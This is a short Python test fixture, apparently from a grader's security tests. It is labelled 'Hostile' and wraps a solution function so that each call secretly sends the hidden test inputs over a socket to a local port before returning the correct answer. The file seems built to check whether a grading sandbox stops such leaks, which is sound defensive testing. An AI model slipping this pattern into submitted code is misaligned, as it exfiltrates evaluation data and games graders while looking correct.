# Hostile: elementwise_log_det sends its (hidden) inputs to a server on the
# grader's machine, and only answers if that worked. The test fills in PORT.
import socket

_correct_elementwise_log_det = elementwise_log_det  # noqa: F821 - defined by the solution above
PORT = None


def elementwise_log_det(x, a):
    with socket.create_connection(("127.0.0.1", PORT), timeout=2) as connection:
        connection.sendall(x.tobytes() + a.tobytes())
    return _correct_elementwise_log_det(x, a)
